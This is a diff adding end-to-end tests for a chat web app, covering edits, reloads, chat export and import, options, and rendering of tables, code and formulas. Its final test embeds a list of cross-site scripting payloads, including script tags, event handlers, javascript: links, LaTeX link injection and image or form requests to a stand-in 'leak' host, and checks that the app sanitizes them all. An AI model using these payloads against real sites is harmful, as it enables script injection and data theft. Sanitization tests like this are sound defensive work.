@@ -1,0 +1,251 @@
+import { readFile } from 'node:fs/promises';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { words } from '../../src/app/strings.ts';
+import { exportChats } from '../../src/peer/stored-chat.ts';
+import { ask, type Tab, World } from '../e2e/world.ts';
+import { faults, overflowing } from './faults.ts';
+
+const question = 'What is a pod?';
+const other = 'Who can read my text?';
+let world: World;
+
+beforeAll(async () => {
+  world = await World.start();
+});
+afterAll(() => world?.stop());
+
+const articles = ({ page }: Tab) => page.getByRole('article');
+const text = (tab: Tab, index: number) => articles(tab).nth(index).locator('[data-answer]');
+const button = ({ page }: Tab, name: string) => page.getByRole('button', { name, exact: true });
+const whole = (tab: Tab, index: number) =>
+  articles(tab).nth(index).getByText('tokens/s').waitFor({ timeout: 60_000 });
+const entries = ({ page }: Tab) =>
+  page.getByRole('dialog').getByRole('list', { name: words.history.title }).getByRole('listitem');
+
+/** A chat file with one answer, as Export writes it. */
+const chatFile = (answer: string) => ({
+  name: 'chats.json',
+  mimeType: 'application/json',
+  buffer: Buffer.from(
+    exportChats([
+      {
+        id: 'imported',
+        title: 'Imported',
+        createdAt: 1,
+        updatedAt: 1,
+        system: '',
+        exchanges: [
+          {
+            id: 'one',
+            question: 'Show me',
+            answer,
+            model: 'guide',
+            phase: 'done',
+            layers: 6,
+            interruptions: [],
+          },
+        ],
+      },
+    ]),
+  ),
+});
+
+async function importChat(tab: Tab, answer: string): Promise<void> {
+  await button(tab, words.chat.chats).click();
+  await tab.page.locator('input[type=file][accept*=json]').setInputFiles(chatFile(answer));
+  await tab.page.getByText(words.history.imported(1)).waitFor();
+  await entries(tab).filter({ hasText: 'Imported' }).getByRole('button').first().click();
+}
+
+test('a question is edited, both versions stay, and a reload finds chat and draft', async () => {
+  const tab = await world.openTab('editor');
+  await ask(tab, question);
+  await whole(tab, 0);
+  const first = await text(tab, 0).innerText();
+  await ask(tab, other);
+  await whole(tab, 1);
+
+  await button(tab, words.chat.edit).first().click();
+  const box = tab.page.getByRole('textbox', { name: words.chat.editLabel });
+  expect(await box.inputValue()).toBe(question);
+  await tab.page.keyboard.press('Escape');
+  await button(tab, words.chat.edit).first().click();
+  await box.fill('What do I need to join?');
+  await tab.page.keyboard.press('Enter');
+  await whole(tab, 0);
+  expect(await articles(tab).count()).toBe(1);
+  await articles(tab).getByText(words.chat.branch(2, 2)).waitFor();
+  await button(tab, words.chat.previousBranch).click();
+  await expect.poll(() => articles(tab).count()).toBe(2);
+  expect(await text(tab, 0).innerText()).toBe(first);
+
+  await tab.page.getByRole('textbox', { name: 'Message' }).fill('half a thou');
+  await tab.page.reload();
+  await expect.poll(() => articles(tab).count(), { timeout: 30_000 }).toBe(2);
+  expect(await text(tab, 0).innerText()).toBe(first);
+  expect(await tab.page.getByRole('textbox', { name: 'Message' }).inputValue()).toBe('half a thou');
+  await articles(tab).first().getByText(words.chat.branch(1, 2)).waitFor();
+  expect(tab.errors).toEqual([]);
+  await tab.context.close();
+});
+
+test('an answer that a reload cuts off keeps its text', async () => {
+  const tab = await world.openTab('reloader');
+  await ask(tab, question);
+  await text(tab, 0).waitFor();
+  await tab.page.reload();
+  await articles(tab).getByText(words.chat.stopped).or(articles(tab).getByText('tokens/s')).waitFor();
+  await tab.page.getByRole('main').getByText(question, { exact: true }).last().waitFor();
+  await tab.context.close();
+});
+
+test('chats are searched, deleted, brought back, exported and imported', async () => {
+  const tab = await world.openTab('keeper');
+  await ask(tab, question);
+  await whole(tab, 0);
+  await button(tab, words.chat.newChat).click();
+  await ask(tab, other);
+  await whole(tab, 0);
+  await tab.page.keyboard.press('Control+k');
+  await expect.poll(() => entries(tab).count()).toBe(2);
+  const search = tab.page.getByRole('searchbox', { name: words.history.search });
+  await search.fill('READ my');
+  await expect.poll(() => entries(tab).count()).toBe(1);
+  await search.fill('nothing like it');
+  await tab.page.getByText(words.history.noMatch('nothing like it')).waitFor();
+  await search.fill('');
+
+  const download = tab.page.waitForEvent('download');
+  await button(tab, words.history.export).click();
+  const saved = await (await download).path();
+  await button(tab, words.history.deleteAll).click();
+  await button(tab, words.history.deleteAllNow(2)).click();
+  await tab.page.getByText(words.history.none).waitFor();
+  await button(tab, words.history.undo).click();
+  await expect.poll(() => entries(tab).count()).toBe(2);
+  await button(tab, words.history.delete(other)).click();
+  await expect.poll(() => entries(tab).count()).toBe(1);
+
+  const chooser = tab.page.locator('input[type=file][accept*=json]');
+  await chooser.setInputFiles({
+    name: 'bad.json',
+    mimeType: 'application/json',
+    buffer: Buffer.from('{"tabmesh":"chats/1","chats":[{"id":"<script>"}]}'),
+  });
+  await tab.page.getByRole('alert').getByText('Nothing was changed').waitFor();
+  await chooser.setInputFiles({
+    name: 'good.json',
+    mimeType: 'application/json',
+    buffer: await readFile(saved),
+  });
+  await expect.poll(() => entries(tab).count()).toBe(2);
+  await entries(tab).filter({ hasText: question }).getByRole('button').first().click();
+  await tab.page.getByText(question, { exact: true }).first().waitFor();
+  expect(await articles(tab).count()).toBe(1);
+  expect(tab.errors).toEqual([]);
+  await tab.context.close();
+});
+
+test('options hold for the chat, and with some temperature an answer is asked for again', async () => {
+  const tab = await world.openTab('tuner');
+  await ask(tab, question);
+  await whole(tab, 0);
+  expect(await button(tab, words.chat.regenerate).count()).toBe(0);
+  await button(tab, words.chat.options).click();
+  await tab.page.getByLabel(words.options.temperature).fill('1.5');
+  await tab.page.getByLabel(words.options.system).fill('Be brief.');
+  expect(await faults(tab)).toEqual([]);
+  await tab.page.keyboard.press('Escape');
+  await button(tab, words.chat.regenerate).click();
+  await articles(tab).getByText(words.chat.branch(2, 2)).waitFor({ timeout: 60_000 });
+  await tab.page.reload();
+  await articles(tab).getByText(words.chat.branch(2, 2)).waitFor({ timeout: 30_000 });
+  await button(tab, words.chat.options).click();
+  expect(await tab.page.getByLabel(words.options.temperature).inputValue()).toBe('1.5');
+  expect(await tab.page.getByLabel(words.options.system).inputValue()).toBe('Be brief.');
+  await tab.context.close();
+});
+
+const formatted = `# A title
+
+Some *words*, \`code\` and a price of $5 and $6.
+
+| layer | peer |
+|---|---|
+| 1 | ${'Blue-Heron '.repeat(30)} |
+
+\`\`\`js
+const answer = 42;
+\`\`\`
+
+$$e^{i\\pi} + 1 = 0$$
+
+and \\(x^2\\) in a line.`;
+
+test('an answer shows tables, code and formulas, and fits a phone', async () => {
+  const tab = await world.openTab('formatter', '', { permissions: ['clipboard-read', 'clipboard-write'] });
+  await importChat(tab, formatted);
+  const answer = text(tab, 0);
+  await answer.locator('table').waitFor();
+  await answer.getByRole('heading', { name: 'A title' }).waitFor();
+  await expect.poll(() => answer.locator('math').count()).toBe(2);
+  expect(await answer.innerText()).toContain('a price of $5 and $6.');
+  await button(tab, words.chat.copyCode).click();
+  expect(await tab.page.evaluate(() => navigator.clipboard.readText())).toBe('const answer = 42;\n');
+  for (const width of [360, 1440]) {
+    await tab.page.setViewportSize({ width, height: 800 });
+    for (const colorScheme of ['light', 'dark'] as const) {
+      await tab.page.emulateMedia({ colorScheme });
+      expect(await tab.page.evaluate(overflowing), `${width}`).toEqual([]);
+      expect(await faults(tab), `${width} ${colorScheme}`).toEqual([]);
+    }
+  }
+  expect(tab.errors).toEqual([]);
+  await tab.context.close();
+});
+
+const hostile = `<script>window.ran = 1</script>
+<img src="x" onerror="window.ran = 2"> <svg onload="window.ran = 3"></svg>
+<iframe srcdoc="<script>parent.ran = 4</script>"></iframe>
+<style>body { display: none }</style> <form action="https://127.0.0.1:9/leak"><input name="a"></form>
+
+[a link](javascript:window.ran=5) [data](data:text/html,<script>1</script>) ![seen](http://127.0.0.1:9/leak?text=secret)
+[spaced](java&#10;script:window.ran=6) <a href="javascript:window.ran=7" onclick="window.ran=8">raw</a>
+
+$\\href{javascript:window.ran=9}{x}$ $\\includegraphics{http://127.0.0.1:9/leak}$ $\\htmlStyle{position:fixed}{x}$
+
+\`\`\`<img src=x onerror=window.ran=10>
+</code></pre><script>window.ran = 11</script>
+\`\`\``;
+
+test('nothing that an answer holds runs, loads or leads anywhere but to the web', async () => {
+  const tab = await world.openTab('target');
+  const leaked: string[] = [];
+  tab.page.on('request', request => {
+    if (request.url().includes('leak')) leaked.push(request.url());
+  });
+  await importChat(tab, hostile);
+  const answer = text(tab, 0);
+  await answer.getByText('window.ran = 11').waitFor();
+  await answer.getByRole('link', { name: 'seen' }).waitFor();
+  const found = await answer.evaluate(element => ({
+    ran: (window as unknown as { ran?: number }).ran,
+    elements: [
+      ...element.querySelectorAll('script, img, svg, iframe, style, form, input, object, embed'),
+    ].map(each => each.tagName),
+    attributes: [...element.querySelectorAll('*')].flatMap(each =>
+      each.getAttributeNames().filter(name => name.startsWith('on') || name === 'style' || name === 'id'),
+    ),
+    elsewhere: [...element.querySelectorAll('a')]
+      .map(link => link.getAttribute('href'))
+      .filter(href => href !== null && !href.startsWith('http://127.0.0.1:9/')),
+  }));
+  expect(found).toEqual({
+    ran: undefined,
+    elements: [],
+    attributes: [],
+    elsewhere: [],
+  });
+  expect(leaked).toEqual([]);
+  await tab.context.close();
+});
